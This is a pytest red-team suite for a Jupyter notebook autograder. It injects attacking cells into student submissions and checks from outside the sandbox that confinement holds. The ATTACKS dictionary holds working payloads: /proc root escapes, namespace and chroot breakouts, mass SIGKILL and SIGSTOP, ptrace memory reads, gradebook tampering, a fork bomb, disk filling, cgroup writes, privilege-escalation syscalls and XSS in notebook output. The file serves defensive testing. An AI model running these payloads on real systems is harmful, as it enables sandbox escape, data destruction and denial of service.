"""Can a submission that acts as the operating-system process it is walk out of its kernel?

Each attack below is a student's notebook: the released exercise (whose answers earn
nothing) with one cell added that attacks the host the way a student who has read
this repository would: through ``/proc``, namespaces, signals, ``ptrace``, the file
system, the network, fork bombs, memory, HTML and the kernel protocol. They are graded
by ``./course grade`` in one batch, with honest students before and after them in every
assignment, and each attack's success is measured **outside** the grader: files it
would write on the host, a loopback listener it would reach, the process table after
the batch, the gradebook, the other students' files and grades, and what it printed.
"""

import csv
import hashlib
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from html.parser import HTMLParser

import nbformat
import pytest

from autograder.course import EXERCISES, REPO, assignments, source_notebook
from autograder.sandbox import cleanup
from autograder.sandbox.limits import DEFAULT_LIMITS
from autograder.sandbox.zygote import KERNEL_NICENESS, UID_BASE, session_niceness

pytestmark = [pytest.mark.grading,
              pytest.mark.skipif(not sys.platform.startswith("linux"), reason="confinement is Linux's")]

TOKEN = f"bnweek-redteam-{uuid.uuid4().hex[:12]}"
CH1 = "ch1_normalizing"
#: What a leaked hidden test or solution would show in the attacker's own output.
SECRETS = ("BEGIN HIDDEN TESTS", "BEGIN SOLUTION", "gradebook.db:", "LEAK:")

# Each attack gets DROP (a world-writable host folder), PORT (a loopback listener of the
# host), SOLUTION (the source notebook's path), REPO and TOKEN, and prints LEAK: with
# whatever secret it got.
PRELUDE = """
import ctypes, glob, json, os, signal, socket, sys, time
DROP, PORT, SOLUTION, REPO, TOKEN = {drop!r}, {port}, {solution!r}, {repo!r}, {token!r}
libc = ctypes.CDLL(None, use_errno=True)

def drop(name):
    for root in ["", *glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd")]:
        try:
            with open(root + DROP + "/" + name + "-" + str(abs(hash(root))), "w") as file:
                file.write("escaped")
        except Exception:
            pass

def leak(path):
    for root in ["", *glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd")]:
        try:
            print("LEAK:", root, open(root + path).read()[:4000])
        except Exception:
            pass

def find(name):
    # host files called name, looked for through every root this kernel can reach
    hits = []
    for top in ["/", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]:
        for folder, subfolders, files in os.walk(top):
            subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev", "usr", "lib", "site-packages")]
            hits += [os.path.join(folder, file) for file in files if file == name]
    return hits

def call(what):
    try:
        return what()
    except Exception as error:
        return error

def deep(top, levels=3000):
    # a tree deeper than Python's recursion limit and PATH_MAX, its deepest folder without permissions
    try:
        here = os.open(top, os.O_RDONLY)
        for _ in range(levels):
            os.mkdir("d", dir_fd=here)
            below = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
        os.fchmod(here, 0)
        os.close(here)
        return "nested"
    except OSError as error:
        return error

#: the folder of the socket the judge calls this kernel through, and of this kernel's own sockets
CALLS = os.path.dirname(os.environ.get("BNWEEK_JUDGE_SOCKET", "/nonexistent/x"))
try:
    from ipykernel.connect import get_connection_file
    SOCKETS = os.path.dirname(get_connection_file())
except Exception:
    SOCKETS = "/nonexistent"
"""

ATTACKS = {
    "reads_host_files_through_proc_root": (CH1, """
leak(SOLUTION)
for root in glob.glob("/proc/*/root"):
    print(root, call(lambda: os.listdir(root + REPO)))
"""),
    "writes_host_files_through_proc_root": ("ch2_fitting_bn", """
drop("proc-root")
for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    call(lambda: open(root + REPO + "/exercises/" + TOKEN, "w").write("x"))
"""),
    "leaves_its_mount_namespace": (CH1, """
for path in glob.glob("/proc/*/ns/mnt") + glob.glob("/proc/*/ns/user"):
    fd = call(lambda: os.open(path, os.O_RDONLY))
    if isinstance(fd, int):
        print(path, libc.setns(fd, 0), ctypes.get_errno())
print("unshare", libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
print("chroot", call(lambda: (os.makedirs("jail", exist_ok=True), os.chroot("jail"))))
for _ in range(64):
    call(lambda: os.chdir(".."))
print("chroot .", call(lambda: os.chroot(".")))
print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
print("pivot", libc.syscall(155, b"/", b"/"), ctypes.get_errno())
print("open_by_handle_at", libc.syscall(304, -100, None, 0), ctypes.get_errno())
drop("mount-escape")
leak(SOLUTION)
"""),
    "joins_another_network_namespace": (CH1, """
def knock():
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(TOKEN.encode())
        print("LEAK: reached the host's loopback")
    except Exception as error:
        print("no network:", error)
knock()
for path in glob.glob("/proc/*/ns/net") + glob.glob("/proc/*/task/*/ns/net"):
    fd = call(lambda: os.open(path, os.O_RDONLY))
    if isinstance(fd, int) and libc.setns(fd, 0x40000000) == 0:
        knock()
print("unshare net", libc.unshare(0x40000000), ctypes.get_errno())
knock()
"""),
    "signals_the_kernel_server": ("ch6_tensorflow", """
call(lambda: os.kill(os.getppid(), signal.SIGKILL))
for pid in range(2, 1 << 16):
    if pid != os.getpid():
        call(lambda: os.kill(pid, signal.SIGKILL))
call(lambda: os.kill(-1, signal.SIGKILL))
"""),
    "stops_every_process_it_can": ("ch4_test_time", """
if os.fork() == 0:
    for pid in range(1, 1 << 16):
        call(lambda: os.kill(pid, signal.SIGSTOP))
    call(lambda: os.kill(-1, signal.SIGSTOP))
    os._exit(0)
os.wait()
"""),
    "traces_other_processes": ("ch3_why_bn_works", """
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
for pid in range(1, 4096):
    if pid != os.getpid():
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0 or libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            print("LEAK: traced", pid)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
local, remote = iovec(ctypes.addressof(buffer), 64), iovec(0x400000, 64)
for pid in range(1, 4096):
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("LEAK: read the memory of", pid)
"""),
    "writes_the_gradebook": ("ch5_softmax", """
import sqlite3
for path in find("gradebook.db") + glob.glob(DROP + "/../graded/gradebook.db"):
    print("gradebook.db:", path)
    try:
        with sqlite3.connect(path) as db:
            db.execute("update grade set manual_score = 0, auto_score = 0")
    except Exception as error:
        print(error)
"""),
    "writes_another_students_folder": (CH1, """
for path in find("ch1_normalizing.ipynb") + glob.glob(DROP + "/../submitted/z_honest/*/*.ipynb"):
    if "z_honest" in path or "a_honest" in path or "submitted" in path:
        print("LEAK: found", path)
        call(lambda: open(path, "w").write("{}"))
"""),
    "leaves_a_process_behind": (CH1, """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", TOKEN], {})
    os._exit(0)
os.wait()
"""),
    "fork_bomb": (CH1, """
children = 0
try:
    for _ in range(100000):
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", "5"])  # small, so that processes, not memory, run out first
        children += 1
except OSError as error:
    print("stopped after", children, "children:", error)
"""),
    "exhausts_memory_through_children": (CH1, """
import numpy as np
for _ in range(6):
    if os.fork() == 0:
        hog = np.ones(2**30 // 8 * 1)  # 1 GiB each, touched
        time.sleep(20)
        os._exit(0)
time.sleep(20)
"""),
    "script_in_outputs": (CH1, """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>document.title = 'pwned-by-script'</script><img src=x onerror=\\"document.title = 'pwned-by-onerror'\\">"
             "<a href=\\"javascript:document.title='pwned-by-link'\\" id=bnweek-link>click</a>"
             "<iframe srcdoc=\\"<script>parent.document.title='pwned-by-iframe'</script>\\"></iframe>"
             "<object data=\\"javascript:document.title='pwned-by-object'\\"></object>"))
display(Javascript("document.title = 'pwned-by-javascript-output'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\\'pwned-by-svg\\'"><rect width="5" height="5"/></svg>'))
"""),
    "floods_the_kernel_protocol": (CH1, """
from IPython.display import display
for i in range(30000):
    display({"text/plain": "flood %d" % i}, raw=True)
print("x" * (64 * 2**20))
kernel = get_ipython().kernel
for frames in ([b"garbage"], [b"<IDS|MSG>", b"bad", b"{", b"{}", b"{}", b"{}"], [b"<IDS|MSG>"] + [b"x" * 2**20] * 8):
    call(lambda: kernel.iopub_socket.send_multipart(frames))
"""),
    "reads_other_kernels_keys": (CH1, """
from jupyter_core.paths import jupyter_runtime_dir
for path in find("connection.json") + glob.glob(jupyter_runtime_dir() + "/*.json") + \\
        glob.glob("/tmp/bnweek-ipc-*/*/connection.json"):
    if "connection.json" not in path or "submission" not in path:
        print("LEAK: a key file", path, call(lambda: open(path).read()[:200]))
print(sorted(os.listdir("/proc")))
"""),
    "locks_the_judges_call_folder": ("ch2_fitting_bn", """
import threading
def lock():
    call(lambda: os.chmod(CALLS, 0))
    call(lambda: os.symlink(DROP, os.path.join(CALLS, "calls-" + "0" * 16)))
get_ipython().events.register("post_execute", lock)  # after each of its calls, the last one too
def keep_locking():
    while True:
        lock()
        time.sleep(0.005)
threading.Thread(target=keep_locking, daemon=True).start()
lock()
print("call folder", CALLS, oct(os.stat(CALLS).st_mode))
"""),
    "nests_folders_deeper_than_recursion": ("ch3_why_bn_works", """
for top in (".", "/tmp", "/dev/shm", CALLS, SOCKETS):
    print(top, deep(top))
"""),
    "fills_the_disk": ("ch4_test_time", """
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_int64, ctypes.c_int64]
for top in (".", "/tmp", "/dev/shm", CALLS, SOCKETS):
    for mode in (1, 0):  # FALLOC_FL_KEEP_SIZE, which the file-size limit does not see; then plain
        fd = call(lambda: os.open(os.path.join(top, "prealloc-%d" % mode), os.O_WRONLY | os.O_CREAT, 0o600))
        if isinstance(fd, int):
            print(top, "fallocate", mode, libc.fallocate(fd, mode, 0, 4 * 2**30), ctypes.get_errno())
    written, block = 0, b"x" * 2**20
    try:
        for index in range(1024):  # 1 GiB in files below the file-size limit
            with open(os.path.join(top, "fill-%d" % index), "wb") as file:
                for _ in range(32):
                    written += file.write(block)
    except OSError as error:
        print(top, "wrote", written >> 20, "MiB:", error)
for stream in (sys.stdout, sys.stderr):  # a gigabyte past ipykernel, straight to the kernel's own stdout
    fd = getattr(stream, "_original_stdstream_copy", None)
    for _ in range(512 if fd is not None else 0):
        os.write(fd, b"y" * 2**20)
"""),
    "listens_on_vsock": (CH1, """
import errno
port = 20000 + int(TOKEN[-4:], 16) % 10000
deadline, outcome = time.time() + 4, None
while time.time() < deadline:
    try:
        vsock = socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK: outside the network namespace
        vsock.bind((0xFFFFFFFF, port))
        vsock.listen()
        print("LEAK: listening on the host's vsock port", port)
        time.sleep(4)
        break
    except OSError as error:
        outcome = error
        if error.errno in (errno.EAFNOSUPPORT, errno.EPERM, errno.EACCES):
            break
        time.sleep(0.05)
print("vsock:", outcome)
for name in ("AF_PACKET", "AF_ALG", "AF_BLUETOOTH"):
    print(name, call(lambda: socket.socket(getattr(socket, name, 38), socket.SOCK_SEQPACKET)))
"""),
    "writes_under_sys": (CH1, """
with open("/proc/self/mountinfo") as mounts:
    for line in mounts:
        point, options = line.split()[4], line.split()[5]
        if point.startswith("/sys") and "rw" in options.split(","):
            print("LEAK: a writable mount under /sys:", point)
for folder, subfolders, files in os.walk("/sys/fs/cgroup"):
    for name in files:
        if name in ("cgroup.procs", "cgroup.kill", "freezer.state", "pids.max", "tasks"):
            path = os.path.join(folder, name)
            outcome = call(lambda: open(path, "w").write("FROZEN" if name == "freezer.state" else "1"))
            if not isinstance(outcome, Exception):
                print("LEAK: wrote", path)
"""),
    "raises_its_priority": ("ch5_softmax", """
print("nice", call(lambda: os.nice(-10)))
print("setpriority", call(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)))
print("setpriority user", call(lambda: os.setpriority(os.PRIO_USER, 0, -20)))
for value in ("-20", "0"):  # 0 is its own level back: allowed, and no higher than the grader's
    print("autogroup", value, call(lambda: open("/proc/self/autogroup", "w").write(value)))
print("fifo", call(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))))
print("rr", call(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))))
end = time.time() + 2.5
while time.time() < end:  # busy, so that the host sees it at whatever priority it got
    pass
print("now", os.nice(0), os.sched_getscheduler(0))
"""),
    "gains_privileges": (CH1, """
print("setuid", call(lambda: os.setuid(0)))
print("userns", libc.unshare(0x10000000), ctypes.get_errno())
print("clone newuser", libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0), ctypes.get_errno())
print("bpf", libc.syscall(321, 0, None, 0), ctypes.get_errno())
print("keyctl", libc.syscall(250, 0, 0, 0, 0, 0), ctypes.get_errno())
print("perf", libc.syscall(298, None, 0, -1, -1, 0), ctypes.get_errno())
with open("/proc/self/status") as status:
    capabilities = [line for line in status if line.startswith(("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"))]
print(capabilities)
if any(line.split()[1].strip("0") for line in capabilities if line.startswith(("CapEff", "CapPrm"))):
    print("LEAK: a capability")
drop("privileged")
"""),
}


def attack_notebook(assignment, code, drop, port):
    """The released exercise of ``assignment`` with one attacking cell after its first cell."""
    notebook = nbformat.read(EXERCISES / assignment / f"{assignment}.ipynb", as_version=4)
    prelude = PRELUDE.format(drop=str(drop), port=port, solution=str(source_notebook(assignment)),
                             repo=str(REPO), token=TOKEN)
    notebook.cells.insert(1, nbformat.v4.new_code_cell(prelude + code))
    if "script" in code:
        notebook.cells.insert(1, nbformat.v4.new_markdown_cell(
            "<img src=x onerror=\"document.title='pwned-by-markdown'\"><script>document.title='pwned-by-md-script'</script>"))
    return notebook


class Listener:
    """A TCP listener on the host's loopback that counts who reached it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.reached = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, address = self.server.accept()
            except OSError:
                return
            self.reached.append(address)
            connection.close()


def read_grades(path):
    with open(path, encoding="utf-8") as file:
        return {(row["student"], row["assignment"]): row for row in csv.DictReader(file)}


#: What an honest student may also do: use ``tempfile``, and a ``tf.function`` whose ``tf.range`` loop AutoGraph
#: converts (it writes a temporary file), under a grader whose TMPDIR is a host folder (issue 22).
TEMPFILE_AND_AUTOGRAPH = """
import tempfile
import tensorflow as tf
with tempfile.NamedTemporaryFile() as scratch:
    scratch.write(b"x")

@tf.function
def total(n):
    s = tf.constant(0)
    for i in tf.range(n):
        s += i
    return s

print("tempfile", tempfile.gettempdir(), "autograph", int(total(tf.constant(10))))
"""
#: The vsock port the vsock attack listens on, and the host probes.
VSOCK_PORT = 20000 + int(TOKEN[-4:], 16) % 10000


def run_grade(source, output, assignment="all", tmpdir=None):
    env = dict(os.environ, BNWEEK_REDTEAM=TOKEN)
    if tmpdir:
        env["TMPDIR"] = str(tmpdir)
    return subprocess.run([sys.executable, "-m", "autograder", "grade", str(source), assignment, "-o", str(output),
                           "--workers", "2"], capture_output=True, text=True, env=env, timeout=1500)


def kernel_priorities():
    """``(nice, scheduling policy, its session's autogroup nice or None)`` of each running kernel's process."""
    seen = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if os.stat(f"/proc/{entry}").st_uid < UID_BASE:
                continue
            with open(f"/proc/{entry}/stat") as file:
                fields = file.read().rpartition(")")[2].split()  # from the 3rd field on: nice is the 19th, policy the 41st
            session = session_niceness(entry)
        except (OSError, ValueError):
            continue
        seen.append((int(fields[16]), int(fields[38]), session))
    return seen


class Sampler:
    """Watches from the host, while the batch runs: the bytes under the grader's TMPDIR, the vsock port, and
    the priorities the kernels run at."""

    def __init__(self, folder):
        self.folder, self.largest, self.vsock_taken, self.running = folder, 0, [], True
        self.priorities = []
        self.thread = threading.Thread(target=self._sample, daemon=True)
        self.thread.start()

    def _sample(self):
        while self.running:
            self.priorities += kernel_priorities()
            du = subprocess.run(["du", "-sxb", str(self.folder)], capture_output=True, text=True)
            if du.stdout.split():
                self.largest = max(self.largest, int(du.stdout.split()[0]))
            try:
                probe = socket.socket(40, socket.SOCK_STREAM)
                try:
                    probe.bind((0xFFFFFFFF, VSOCK_PORT))
                except OSError as error:
                    if error.errno == 98:  # EADDRINUSE: something else listens there
                        self.vsock_taken.append(time.monotonic())
                finally:
                    probe.close()
            except OSError:  # no vsock on this host
                pass
            time.sleep(0.3)

    def stop(self):
        self.running = False
        self.thread.join()


def digest(folder):
    return {path: hashlib.sha256(path.read_bytes()).hexdigest() for path in sorted(folder.rglob("*")) if path.is_file()}


#: The grader's TMPDIR during the batch (its zygote's socket is there): marks this batch's kernels apart
#: from other graders' on the same machine.
GRADER_TMP = []


def batch_processes():
    """Host processes left by the batch: run as a kernel's uid by this batch's zygote, or carrying its token."""
    left = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            uid = os.stat(f"/proc/{entry}").st_uid
            with open(f"/proc/{entry}/cmdline", "rb") as file:
                command = file.read()
            try:
                with open(f"/proc/{entry}/environ", "rb") as file:
                    environment = file.read()
            except OSError:
                environment = b""
        except OSError:
            continue
        ours = [marker.encode() for marker in (TOKEN, *GRADER_TMP)]
        if any(marker in command or marker in environment for marker in ours) or \
                uid >= UID_BASE and not os.access(f"/proc/{entry}/environ", os.R_OK):
            left.append((entry, uid, command[:200]))
    return left


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Honest students before and after the attackers in every assignment, graded in one batch."""
    base = tmp_path_factory.mktemp("os-redteam")
    drop = base / "drop"
    drop.mkdir()
    os.chmod(drop, 0o777)  # so that only the confinement, not a file mode, stands in the way
    listener = Listener()
    submitted = base / "submitted"
    for student in ("a_honest", "z_honest"):
        for assignment in assignments():
            (submitted / student / assignment).mkdir(parents=True)
            nbformat.write(nbformat.read(source_notebook(assignment), as_version=4),
                           submitted / student / assignment / f"{assignment}.ipynb")
    for name, (assignment, code) in ATTACKS.items():
        (submitted / f"m_{name}" / assignment).mkdir(parents=True)
        nbformat.write(attack_notebook(assignment, code, drop, listener.port),
                       submitted / f"m_{name}" / assignment / f"{assignment}.ipynb")
    scratch = nbformat.read(source_notebook(CH1), as_version=4)
    scratch.cells.insert(1, nbformat.v4.new_code_cell(TEMPFILE_AND_AUTOGRAPH))
    (submitted / "t_tempfile" / CH1).mkdir(parents=True)
    nbformat.write(scratch, submitted / "t_tempfile" / CH1 / f"{CH1}.ipynb")
    before = digest(submitted)
    # the grader's TMPDIR: a host folder of its own (short: socket paths), so that what it leaves and how
    # large it grows are measured here, apart from anything else on the machine
    grader_tmp = tempfile.mkdtemp(prefix="bnw-rt-", dir="/tmp")
    GRADER_TMP[:] = [grader_tmp]
    sampler = Sampler(grader_tmp)
    started = time.monotonic()
    result = run_grade(submitted, base / "graded", tmpdir=grader_tmp)
    seconds = time.monotonic() - started
    sampler.stop()
    time.sleep(2)  # the zygote notices its grader has gone within 50 ms
    left = batch_processes()
    grader_tmp_left = sorted(os.listdir(grader_tmp))
    cleanup.remove_tree(grader_tmp)
    solo_source = base / "solo"
    for assignment in assignments():
        (solo_source / "a_honest" / assignment).mkdir(parents=True)
        nbformat.write(nbformat.read(source_notebook(assignment), as_version=4),
                       solo_source / "a_honest" / assignment / f"{assignment}.ipynb")
    solo = run_grade(solo_source, base / "solo-graded")
    assert solo.returncode == 0, solo.stdout[-3000:] + solo.stderr[-3000:]
    print(f"red team batch: {len(ATTACKS)} attacks and 12 honest notebooks in {seconds:.0f} s")
    return {"result": result, "graded": base / "graded", "drop": drop, "listener": listener, "left": left,
            "submitted": submitted, "before": before, "solo": read_grades(base / "solo-graded" / "grades.csv"),
            "sampler": sampler, "grader_tmp_left": grader_tmp_left}


def output_of(batch, student, assignment):
    """What the attacking cell (the notebook's second) printed, as graded."""
    notebook = nbformat.read(batch["graded"] / "autograded" / student / assignment / f"{assignment}.ipynb", 4)
    return "".join(str(output.get("text", "")) for output in notebook.cells[1].get("outputs", []))


def test_the_batch_finishes_with_every_notebook_graded(batch):
    result = batch["result"]
    assert result.returncode == 0, result.stdout[-5000:] + result.stderr[-5000:]
    assert result.stdout.startswith("Confinement: every kernel ran confined"), result.stdout[:500]
    grades = read_grades(batch["graded"] / "grades.csv")
    ours = {key: row for key, row in grades.items() if key[0] in {"a_honest", "z_honest", *(f"m_{n}" for n in ATTACKS)}}
    submitted = {(s, a) for s in ("a_honest", "z_honest") for a in assignments()}
    submitted |= {(f"m_{name}", assignment) for name, (assignment, _) in ATTACKS.items()}
    assert {key for key, row in ours.items() if row["status"] == "graded"} >= submitted


def test_no_attack_wrote_a_host_file(batch):
    assert not list(batch["drop"].iterdir()), list(batch["drop"].iterdir())
    assert not [path for path in REPO.rglob(f"*{TOKEN}*")], "an attack wrote into the repository"


def test_no_attack_reached_the_hosts_loopback(batch):
    assert batch["listener"].reached == []


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_attack_failed_and_earned_nothing(batch, name):
    assignment = ATTACKS[name][0]
    row = read_grades(batch["graded"] / "grades.csv")[(f"m_{name}", assignment)]
    assert row["status"] == "graded" and float(row["total"]) == 0, row
    notebook = nbformat.read(batch["graded"] / "autograded" / f"m_{name}" / assignment / f"{assignment}.ipynb", 4)
    printed = "".join(str(output.get("text", "")) + str(output.get("data", {}).get("text/plain", ""))
                      for cell in notebook.cells[1:3] for output in cell.get("outputs", []))
    assert not [secret for secret in SECRETS if secret in printed], printed[:3000]


def test_honest_grades_equal_their_solo_grades(batch):
    grades = read_grades(batch["graded"] / "grades.csv")
    for assignment in assignments():
        solo = batch["solo"][("a_honest", assignment)]
        for student in ("a_honest", "z_honest"):
            row = grades[(student, assignment)]
            assert (row["status"], row["total"]) == ("graded", solo["total"]) == ("graded", solo["possible"]), row


def test_the_gradebook_equals_grades_csv(batch):
    from nbgrader.api import Gradebook

    grades = read_grades(batch["graded"] / "grades.csv")
    with Gradebook(f"sqlite:///{batch['graded'] / 'gradebook.db'}") as gradebook:
        for (student, assignment), row in grades.items():
            if row["status"] == "graded":
                assert gradebook.find_submission(assignment, student).score == float(row["total"]), (student, assignment)


def test_other_students_files_are_untouched(batch):
    assert digest(batch["submitted"]) == batch["before"]


def test_no_process_of_the_batch_is_left(batch):
    assert batch["left"] == []
    assert batch_processes() == []


def test_a_locked_call_folder_costs_no_one_after_it(batch):
    """The judge's call folder locked (mode 000, a link planted) during every call: every other row is whole."""
    grades = read_grades(batch["graded"] / "grades.csv")
    submitted = {(student, assignment) for student in ("a_honest", "z_honest") for assignment in assignments()}
    submitted |= {(f"m_{name}", assignment) for name, (assignment, _) in ATTACKS.items()} | {("t_tempfile", CH1)}
    assert not [(key, grades[key]["status"]) for key in submitted if grades[key]["status"] != "graded"]
    for assignment in assignments():
        for student in ("a_honest", "z_honest"):
            row = grades[(student, assignment)]
            assert row["total"] == row["possible"], row
    assert not list(batch["drop"].iterdir())


def test_deep_trees_and_full_disks_leave_the_host_as_it_was(batch):
    """Trees deeper than the recursion limit, gigabytes written, preallocated and printed: nothing stays, little grows."""
    assert batch["grader_tmp_left"] == [], "the grader left folders in its TMPDIR"
    assert batch["sampler"].largest < 256 * 2**20, f"the grader's folders grew to {batch['sampler'].largest >> 20} MiB"
    grades = read_grades(batch["graded"] / "grades.csv")
    for name in ("nests_folders_deeper_than_recursion", "fills_the_disk", "locks_the_judges_call_folder"):
        row = grades[(f"m_{name}", ATTACKS[name][0])]
        assert row["status"] == "graded" and "grader" not in row["problem"], row
    printed = output_of(batch, "m_fills_the_disk", "ch4_test_time")
    assert "No space left" in printed and "Read-only file system" in printed, printed[:3000]


def test_no_socket_family_reaches_past_the_network_namespace(batch):
    assert batch["sampler"].vsock_taken == [], "a kernel listened on the host's vsock port"
    printed = output_of(batch, "m_listens_on_vsock", CH1)
    assert "vsock: [Errno 97]" in printed, printed[:3000]  # EAFNOSUPPORT


def test_tempfile_and_autograph_work_under_a_host_tmpdir(batch):
    """Graded with TMPDIR a host folder: does a kernel's ``tempfile`` and an AutoGraph loop work (issue 22)?"""
    row = read_grades(batch["graded"] / "grades.csv")[("t_tempfile", CH1)]
    assert row["status"] == "graded" and row["total"] == row["possible"], row
    printed = output_of(batch, "t_tempfile", CH1)
    assert "tempfile /tmp autograph 45" in printed, printed[:3000]


def test_the_flood_cost_only_its_author(batch):
    notebook = batch["graded"] / "autograded" / "m_floods_the_kernel_protocol" / CH1 / f"{CH1}.ipynb"
    assert notebook.stat().st_size < 40 * 2**20, "what a submission prints is bounded"


def test_no_kernel_ran_above_its_place_below_the_grader(batch):
    priorities = batch["sampler"].priorities
    assert priorities, "the host saw no kernel running"
    assert min(nice for nice, _, _ in priorities) >= KERNEL_NICENESS
    assert {policy for _, policy, _ in priorities} <= {os.SCHED_OTHER, os.SCHED_BATCH, os.SCHED_IDLE}
    sessions = [session for _, _, session in priorities if session is not None]
    assert not sessions or min(sessions) >= 0  # at most the grader's own level, never above it
    printed = output_of(batch, "m_raises_its_priority", "ch5_softmax")
    assert "now " in printed, printed  # the attack ran to its end


def test_memory_and_processes_are_bounded_over_the_tree(batch):
    grades = read_grades(batch["graded"] / "grades.csv")
    assert "memory" in grades[("m_exhausts_memory_through_children", CH1)]["problem"] or \
        "stopped" in grades[("m_exhausts_memory_through_children", CH1)]["problem"]
    printed = output_of(batch, "m_fork_bomb", CH1)
    assert "stopped after " in printed, (printed, grades[("m_fork_bomb", CH1)]["problem"])
    assert int(printed.split("stopped after ")[1].split()[0]) < DEFAULT_LIMITS.processes, printed


class ActiveContent(HTMLParser):
    """Collects what would run in a browser: scripts, event handlers, javascript: URLs, embeds."""

    def __init__(self):
        super().__init__()
        self.found, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        if tag in ("iframe", "object", "embed", "applet"):
            self.found.append(tag)
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or "javascript:" in (value or "").replace(" ", "").lower():
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        if self._in_script and "pwned" in data:
            self.found.append(f"script: {data[:80]}")

    def handle_endtag(self, tag):
        self._in_script = False


def test_feedback_html_carries_no_active_content(batch):
    feedback = batch["graded"] / "feedback" / "m_script_in_outputs" / CH1 / f"{CH1}.html"
    parser = ActiveContent()
    parser.feed(feedback.read_text(encoding="utf-8"))
    assert parser.found == []


def test_script_and_onerror_stay_inert_in_chromium(batch):
    """Opened in a real browser, the attacker's feedback runs none of its scripts or handlers."""
    chromium = os.environ.get("BNWEEK_CHROMIUM", "/usr/bin/chromium")
    if not os.path.exists(chromium):
        pytest.skip(f"no Chromium at {chromium}: install it (Debian: apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    feedback = batch["graded"] / "feedback" / "m_script_in_outputs" / CH1 / f"{CH1}.html"
    args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run", "--disable-quic"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, headless=True, args=args)
        page = browser.new_page()
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(feedback.as_uri(), wait_until="load")
        page.wait_for_timeout(1500)
        title = page.title()
        links = page.locator("#bnweek-link")
        if links.count():
            links.first.click()
            page.wait_for_timeout(300)
        clicked_title = page.title()
        browser.close()
    assert "pwned" not in title and "pwned" not in clicked_title and not dialogs, (title, clicked_title, dialogs)
